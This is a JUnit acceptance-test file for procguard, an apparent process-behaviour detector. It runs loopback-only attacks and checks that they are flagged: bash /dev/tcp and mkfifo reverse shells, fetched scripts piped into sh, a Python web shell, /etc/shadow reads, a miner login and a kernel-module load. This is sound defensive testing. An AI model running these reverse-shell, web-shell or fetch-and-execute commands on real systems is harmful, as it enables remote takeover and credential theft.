package io.procguard.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import io.procguard.core.Status;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * End to end with the bundled ONNX model (no test classifier): classic attacks written the way people
 * write them, NOT copied from the training corpus, must end SUSPICIOUS or worse, and ordinary work
 * must stay BENIGN. These are the acceptance tests of the default model.
 */
@Timeout(180)
@ExtendWith(NeedsTracing.class)
class RunDetectionTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path dir;

    /** Runs CMD under {@code procguard run --json} and returns the worst status any process reached. */
    private Status worstStatus(List<String> reasonsOut, String... cmd) throws Exception {
        return worstStatus(List.of(), reasonsOut, cmd);
    }

    /** As {@link #worstStatus(List, String...)}, with more {@code run} options (e.g. {@code --seccomp-bpf}). */
    private Status worstStatus(List<String> options, List<String> reasonsOut, String... cmd) throws Exception {
        List<String> args = new ArrayList<>(List.of("run", "--no-shm", "--json"));
        args.addAll(options);
        args.add("--");
        args.addAll(List.of(cmd));
        MonitorProcess.Result r = MonitorProcess.run(dir, args.toArray(String[]::new));
        Status worst = Status.UNKNOWN;
        for (String line : r.out().lines().filter(l -> l.startsWith("{")).toList()) {
            JsonNode n = JSON.readTree(line);
            if (n.has("status")) {
                Status s = Status.valueOf(n.get("status").asText());
                if (s.code() > worst.code()) {
                    worst = s;
                }
                n.path("reasons").forEach(x -> reasonsOut.add(n.path("comm").asText() + ": " + x.asText()));
            }
        }
        assertThat(r.err()).as("procguard stderr").doesNotContain("Exception");
        return worst;
    }

    /**
     * Plays the attacker: listens on loopback, sends {@code commands} to the shell that connects back and
     * reads until it hangs up, while CMD (with {@code PORT} replaced by the listening port) runs under procguard.
     */
    private Status worstStatusOfReverseShell(String commands, List<String> reasons, String shellCommand) throws Exception {
        return worstStatusOfReverseShell(List.of(), commands, reasons, shellCommand);
    }

    private Status worstStatusOfReverseShell(List<String> options, String commands, List<String> reasons, String shellCommand)
            throws Exception {
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread attacker = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    OutputStream out = s.getOutputStream();
                    out.write(commands.getBytes(StandardCharsets.US_ASCII));
                    out.flush();
                    InputStream in = s.getInputStream();
                    in.readAllBytes();
                } catch (IOException ignored) {
                    // the shell may close first
                }
            });
            attacker.start();
            Status worst = worstStatus(options, reasons, "/bin/bash", "-c",
                    shellCommand.replace("PORT", Integer.toString(listener.getLocalPort())));
            attacker.join(10_000);
            return worst;
        }
    }

    @Test
    void bashDevTcpReverseShellWhoseChildExecsShOnTheSocketIsFlagged() throws Exception {
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatusOfReverseShell("id\nuname -a\nexit\n", reasons,
                "exec 3<>/dev/tcp/127.0.0.1/PORT; sh <&3 >&3 2>&3");
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
    }

    @Test
    void interactiveBashReverseShellIsFlagged() throws Exception {
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatusOfReverseShell("cat /etc/hostname\nexit\n", reasons,
                "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1");
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
    }

    /**
     * The relay spelling (revshells.com's "nc mkfifo" and "OpenSSL"): the socket is the relay's, the shell only sees a
     * pipe. The relay is a few lines of Python standing in for nc (not installed on CI): connect, copy both ways, and
     * half-close the socket when the shell's output ends. Full and lean traces.
     */
    @ParameterizedTest
    @ValueSource(strings = {"", "--seccomp-bpf"})
    void aShellFedByARelayThroughAFifoIsFlagged(String mode) throws Exception {
        Path relay = dir.resolve("relay.py");
        Files.writeString(relay, """
                import socket,sys,os,threading
                s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))
                def up():
                    while True:
                        d=os.read(0,4096)
                        if not d: break
                        s.sendall(d)
                    s.shutdown(socket.SHUT_WR)
                threading.Thread(target=up,daemon=True).start()
                while True:
                    d=s.recv(4096)
                    if not d: break
                    os.write(1,d)
                """);
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatusOfReverseShell(mode.isEmpty() ? List.of() : List.of(mode), "id\nuname -a\nexit\n", reasons,
                "cd '" + dir + "' && rm -f f && mkfifo f && cat f | /bin/sh -i 2>&1 | /usr/bin/python3 relay.py PORT > f");
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
        assertThat(reasons).anyMatch(r -> r.startsWith("sh: ind.reverse_shell=1 (+"));
    }

    /**
     * {@code curl URL | sh}: a script straight from the network, never saved. The fetcher is a line of Python standing in
     * for curl (not installed on CI), the server the JDK's own on loopback. Full and lean traces.
     */
    @ParameterizedTest
    @ValueSource(strings = {"", "--seccomp-bpf"})
    void aScriptPipedFromTheNetworkIntoAShellIsFlagged(String mode) throws Exception {
        HttpServer server = serveAnInstaller();
        try {
            List<String> reasons = new ArrayList<>();
            Status worst = worstStatus(mode.isEmpty() ? List.of() : List.of(mode), reasons, "/bin/sh", "-c",
                    "/usr/bin/python3 -c 'import sys,urllib.request as u; sys.stdout.buffer.write(u.urlopen(sys.argv[1]).read())' "
                            + "http://127.0.0.1:" + server.getAddress().getPort() + "/install.sh | /bin/sh");
            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
            assertThat(reasons).anyMatch(r -> r.startsWith("sh: ind.staged_exec=1 (+"));
        } finally {
            server.stop(0);
        }
    }

    /**
     * Schema 21: the same script saved first and handed to a shell ({@code curl -o x.sh URL && sh x.sh}, full and lean
     * traces), given to {@code sh -c} through a command substitution, and sourced from a process substitution (full
     * traces: both are seen in reads).
     */
    @ParameterizedTest
    @CsvSource(delimiter = ';', value = {
        "; FETCH > x.sh && /bin/sh x.sh; sh",
        "--seccomp-bpf; FETCH > x.sh && /bin/sh x.sh; sh",
        "; /bin/sh -c \"$(FETCH)\"; sh",
        "; source <(FETCH); bash",
    })
    void aScriptFromTheNetworkRunAnotherWayIsFlagged(String mode, String command, String flagged) throws Exception {
        HttpServer server = serveAnInstaller();
        try {
            String fetch = "/usr/bin/python3 -c 'import sys,urllib.request as u; sys.stdout.buffer.write(u.urlopen(sys.argv[1]).read())' "
                    + "http://127.0.0.1:" + server.getAddress().getPort() + "/install.sh";
            List<String> reasons = new ArrayList<>();
            Status worst = worstStatus(mode == null ? List.of() : List.of(mode), reasons, "/bin/bash", "-c",
                    "cd '" + dir + "' && " + command.replace("FETCH", fetch) + "; true");
            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
            assertThat(reasons).anyMatch(r -> r.startsWith(flagged + ": ind.staged_exec=1 (+"));
        } finally {
            server.stop(0);
        }
    }

    /** @return the JDK's web server on loopback, serving a two-line shell script as {@code /install.sh}; stop it after use */
    private static HttpServer serveAnInstaller() throws IOException {
        byte[] script = "echo fetched; uname -a > /dev/null\n".getBytes(StandardCharsets.US_ASCII);
        HttpServer server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/install.sh", exchange -> {
            exchange.sendResponseHeaders(200, script.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(script);
            }
        });
        server.start();
        return server;
    }

    /**
     * Schema 22: a web shell. A Python web application runs the {@code c} parameter of each request through the shell; an
     * attacker (this JVM) sends {@code id} and {@code cat /etc/hostname}, each as {@code sh -c CMD}, full and lean traces
     * (the application reads requests with {@code recvfrom}, which lean traces keep).
     */
    @ParameterizedTest
    @ValueSource(strings = {"", "--seccomp-bpf"})
    void aWebShellsCommandsAreFlagged(String mode) throws Exception {
        Path app = dir.resolve("app.py");
        Files.writeString(app, "import http.server,subprocess,urllib.parse,sys,os\n"
                + "class H(http.server.BaseHTTPRequestHandler):\n"
                + "    def do_GET(self):\n"
                + "        q=urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)\n"
                + "        out=subprocess.run(q['c'][0],shell=True,capture_output=True).stdout\n"
                + "        self.send_response(200); self.end_headers(); self.wfile.write(out)\n"
                + "    def log_message(self,*a): pass\n"
                + "s=http.server.HTTPServer(('127.0.0.1',0),H)\n"
                + "open(sys.argv[1]+'.tmp','w').write(str(s.server_address[1])); os.rename(sys.argv[1]+'.tmp',sys.argv[1])\n"
                + "for _ in range(2): s.handle_request()\n");
        Path portFile = dir.resolve("port");
        Thread attacker = new Thread(() -> {
            try {
                for (int i = 0; i < 1500 && !Files.exists(portFile); i++) {
                    Thread.sleep(20);
                }
                int port = Integer.parseInt(Files.readString(portFile).trim());
                for (String query : List.of("c=id", "c=cat+%2Fetc%2Fhostname")) {
                    try (Socket s = new Socket(InetAddress.getLoopbackAddress(), port)) {
                        s.getOutputStream().write(("GET /?" + query + " HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
                        s.getInputStream().readAllBytes();
                    }
                }
            } catch (IOException | InterruptedException | NumberFormatException ignored) {
                // the statuses tell what arrived
            }
        });
        attacker.start();
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatus(mode.isEmpty() ? List.of() : List.of(mode), reasons, "/usr/bin/python3", app.toString(), portFile.toString());
        attacker.join(10_000);
        // lean: MALICIOUS as the draw of the forest allows (the malicious threshold moves with each retraining; session 16's
        // first lean model needed a unanimous forest: procguard-ml/README.md); flagged, for the reason below, always
        assertThat(worst).as("reasons: %s", reasons).isIn(mode.isEmpty() ? List.of(Status.MALICIOUS) : List.of(Status.SUSPICIOUS, Status.MALICIOUS));
        assertThat(reasons.stream().filter(r -> r.startsWith("sh: ind.staged_exec=1 (+"))).as("reasons: %s", reasons).hasSize(2);
        assertThat(reasons).as("the application itself").noneMatch(r -> r.startsWith("python3: ind."));
    }

    @Test
    void aReverseShellThatGoesQuietIsKilledWhileItWaits() throws Exception {
        // after connecting and putting the socket on 0-2 the shell blocks in a sleep: no more calls. It must be
        // scored all the same (a quiet process is scored after --score-interval) and --kill-on must stop it
        // long before the sleep ends; before that fix it ran its 30 s and exited 0.
        try (ServerSocket listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread attacker = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    s.getInputStream().readAllBytes(); // holds the connection until the shell is gone
                } catch (IOException ignored) {
                    // reset by the kill
                }
            });
            attacker.start();
            long start = System.nanoTime();
            MonitorProcess.Result r = MonitorProcess.run(dir, "run", "--no-shm", "--json", "--kill-on", "suspicious",
                    "--score-interval", "200", "--", "/bin/bash", "-c",
                    "exec 3<>/dev/tcp/127.0.0.1/" + listener.getLocalPort() + "; exec 0<&3 1>&3 2>&3; exec sleep 30");
            double seconds = (System.nanoTime() - start) / 1e9;
            attacker.join(10_000);
            assertThat(r.exitCode()).as("exit code; stderr: %s", r.err()).isEqualTo(128 + 9);
            assertThat(seconds).as("seconds until procguard ended").isLessThan(20);
            assertThat(r.err()).contains("killed pid").doesNotContain("Exception");
            assertThat(r.out().lines().filter(l -> l.startsWith("{")).map(l -> {
                try {
                    return JSON.readTree(l).path("status").asText();
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                }
            })).containsAnyOf("SUSPICIOUS", "MALICIOUS");
        }
    }

    @Test
    void theKillIsReportedAfterTheAlarmThatCausedIt() throws Exception {
        // reads /etc/shadow, then waits: scored while it waits, and killed by --kill-on
        MonitorProcess.Result r = MonitorProcess.run(dir, "run", "--no-shm", "--kill-on", "suspicious", "--score-interval", "200",
                "--", "/usr/bin/python3", "-c", "open('/etc/shadow').read()\nimport time\ntime.sleep(30)");
        assertThat(r.exitCode()).as(r.err()).isEqualTo(128 + 9);
        List<String> lines = r.err().lines().toList();
        int alarm = -1;
        int kill = -1;
        for (int i = 0; i < lines.size(); i++) {
            // UNKNOWN -> or, when it was scored once before it read the file, BENIGN ->
            if (alarm < 0 && (lines.get(i).contains(" -> SUSPICIOUS") || lines.get(i).contains(" -> MALICIOUS"))) {
                alarm = i;
            }
            if (kill < 0 && lines.get(i).contains("killed pid")) {
                kill = i;
            }
        }
        assertThat(alarm).as(r.err()).isNotNegative();
        assertThat(kill).as(r.err()).isGreaterThan(alarm);
    }

    @Test
    void failOnMakesADetectionTheExitCodeAndSaysWhatTheProgramExitedWith() throws Exception {
        MonitorProcess.Result flagged = MonitorProcess.run(dir, "run", "--no-shm", "--fail-on", "SUSPICIOUS", "--",
                "/bin/sh", "-c", "cat /etc/shadow > /dev/null; exit 3");
        assertThat(flagged.exitCode()).as(flagged.err()).isEqualTo(ExitCodes.DETECTED);
        assertThat(flagged.err()).containsPattern("procguard: pid \\d+ \\(cat\\) reached (SUSPICIOUS|MALICIOUS): exit 10 "
                + "\\(--fail-on suspicious; the command exited with 3\\)");

        MonitorProcess.Result quiet = MonitorProcess.run(dir, "run", "--no-shm", "--quiet", "--fail-on", "suspicious", "--",
                "/bin/sh", "-c", "cat /etc/shadow > /dev/null");
        assertThat(quiet.exitCode()).as(quiet.err()).isEqualTo(ExitCodes.DETECTED);
        assertThat(quiet.err()).isEmpty();

        // ordinary work keeps the command's own exit code
        MonitorProcess.Result benign = MonitorProcess.run(dir, "run", "--no-shm", "--fail-on", "suspicious", "--",
                "/bin/sh", "-c", "ls / > /dev/null; exit 3");
        assertThat(benign.exitCode()).as(benign.err()).isEqualTo(3);
        assertThat(benign.err()).doesNotContain("--fail-on");

        MonitorProcess.Result bad = MonitorProcess.run(dir, "run", "--no-shm", "--fail-on", "benign", "--", "/bin/true");
        assertThat(bad.exitCode()).isEqualTo(ExitCodes.USAGE);
        assertThat(bad.err()).isEqualTo("procguard: --fail-on must be 'suspicious' or 'malicious', not 'benign'\n");
    }

    @Test
    void aProgramNamedWithTerminalEscapesCannotWriteThemToTheTerminal() throws Exception {
        // a hostile program picks its own name: an OSC title change, a carriage return and a colour fit in a comm
        String hostile = "\u001b]0;owned\u0007\r\u001b[1m";
        Path named = Files.createSymbolicLink(dir.resolve(hostile), Path.of("/bin/cat"));
        MonitorProcess.Result r = MonitorProcess.run(dir, "run", "--no-shm", "--", named.toString(), "/etc/shadow");
        String alarm = r.err().lines().filter(l -> l.contains("-> SUSPICIOUS") || l.contains("-> MALICIOUS"))
                .findFirst().orElse("");
        assertThat(alarm).as(r.err()).contains("(\\x1b]0;owned\\x07\\x0d\\x1b[1m)");
        assertThat(r.err()).as("raw control characters on stderr").doesNotContain("\u001b", "\u0007", "\r");
    }

    @Test
    void aProgramWithAUtf8NameIsNamedAsWrittenInStatusLinesAndLogs() throws Exception {
        Path named = Files.createSymbolicLink(dir.resolve("café-日本"), Path.of("/bin/cat"));
        MonitorProcess.Result r = MonitorProcess.run(dir, "run", "--no-shm", "--json-out", dir.resolve("status.jsonl").toString(),
                "--log-dir", dir.resolve("logs").toString(), "--", named.toString(), "/etc/shadow");
        assertThat(r.err()).containsPattern("\\(café-日本\\) UNKNOWN -> (SUSPICIOUS|MALICIOUS)"); // the status is the model's
        JsonNode status = JSON.readTree(Files.readAllLines(dir.resolve("status.jsonl")).get(0));
        assertThat(status.get("comm").asText()).isEqualTo("café-日本");
        assertThat(status.get("exe").asText()).isEqualTo(named.toString());
        try (var logs = Files.list(dir.resolve("logs"))) {
            JsonNode started = JSON.readTree(Files.readAllLines(logs.findFirst().orElseThrow()).get(0));
            assertThat(started.get("exe").asText()).isEqualTo(named.toString());
            assertThat(started.get("argv").get(1).asText()).isEqualTo("/etc/shadow");
        }
    }

    @Test
    void readingTheShadowFileFromAShellIsFlagged() throws Exception {
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatus(reasons, "/bin/sh", "-c", "cat /etc/shadow > /dev/null; cat /etc/passwd > /dev/null");
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
    }

    @Test
    void ordinaryShellWorkStaysBenign() throws Exception {
        Path work = Files.createDirectory(dir.resolve("work"));
        for (int i = 0; i < 20; i++) {
            Files.writeString(work.resolve("file" + i + ".txt"), "line " + i + "\n".repeat(i));
        }
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatus(reasons, "/bin/sh", "-c",
                "cd '" + work + "' && ls -la > /dev/null && wc -l *.txt > /dev/null && grep -r line . > /dev/null"
                        + " && tar czf ../work.tgz . && sort file1.txt | uniq > /dev/null && date > /dev/null");
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.BENIGN, Status.UNKNOWN);
    }

    @Test
    void compilingAProgramStaysBenign() throws Exception {
        Path src = dir.resolve("hello.c");
        Files.writeString(src, "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n");
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatus(reasons, "gcc", "-O1", "-o", dir.resolve("hello").toString(), src.toString());
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.BENIGN, Status.UNKNOWN);
    }
    /**
     * Schema 23: a miner. A Python client logs in to a pool (this JVM) with Stratum's {@code mining.subscribe} and
     * {@code mining.authorize} through {@code send}/{@code recv}, which lean traces keep; full and lean.
     */
    @ParameterizedTest
    @ValueSource(strings = {"", "--seccomp-bpf"})
    void aMinerTalkingToItsPoolIsFlagged(String mode) throws Exception {
        Path miner = dir.resolve("miner.py");
        Files.writeString(miner, "import socket,sys\n"
                + "s=socket.create_connection(('127.0.0.1',int(sys.argv[1])))\n"
                + "for m in ('{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5\"]}',"
                + " '{\"id\":2,\"method\":\"mining.authorize\",\"params\":[\"w.rig\",\"x\"]}'):\n"
                + "    s.sendall((m+'\\n').encode()); s.recv(4096)\n");
        try (ServerSocket pool = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            Thread server = new Thread(() -> {
                try (Socket s = pool.accept()) {
                    InputStream in = s.getInputStream();
                    byte[] buffer = new byte[4096];
                    while (in.read(buffer) > 0) {
                        s.getOutputStream().write("{\"id\":1,\"result\":true,\"error\":null}\n".getBytes(StandardCharsets.US_ASCII));
                    }
                } catch (IOException ignored) {
                    // the statuses tell what was said
                }
            });
            server.start();
            List<String> reasons = new ArrayList<>();
            Status worst = worstStatus(mode.isEmpty() ? List.of() : List.of(mode), reasons, "/usr/bin/python3", miner.toString(),
                    Integer.toString(pool.getLocalPort()));
            server.join(10_000);
            assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
            assertThat(reasons).as("reasons: %s", reasons).anyMatch(r -> r.startsWith("python3: ind.cryptomining=1 (+"));
        }
    }

    /**
     * Schema 24: a kernel module from outside the module tree. Python calls {@code finit_module} on a file in a private
     * directory, in a user namespace, where the kernel refuses it whatever it holds; full and lean (whose syscall set
     * has {@code init_module} and {@code finit_module} since then).
     */
    @ParameterizedTest
    @ValueSource(strings = {"", "--seccomp-bpf"})
    void aKernelModuleLoadedFromOutsideTheModuleTreeIsFlagged(String mode) throws Exception {
        Path module = Files.writeString(dir.resolve("rootkit.ko"), "not a module");
        Path loader = Files.writeString(dir.resolve("loader.py"), "import ctypes,os,sys\n"
                + "ctypes.CDLL(None,use_errno=True).syscall(313, os.open(sys.argv[1], os.O_RDONLY), b'', 0)\n");
        List<String> reasons = new ArrayList<>();
        Status worst = worstStatus(mode.isEmpty() ? List.of() : List.of(mode), reasons, "/usr/bin/unshare", "-U", "/usr/bin/python3",
                loader.toString(), module.toString());
        assertThat(worst).as("reasons: %s", reasons).isIn(Status.SUSPICIOUS, Status.MALICIOUS);
        assertThat(reasons).as("reasons: %s", reasons).anyMatch(r -> r.startsWith("python3: ind.persistence=1 (+"));
    }
}
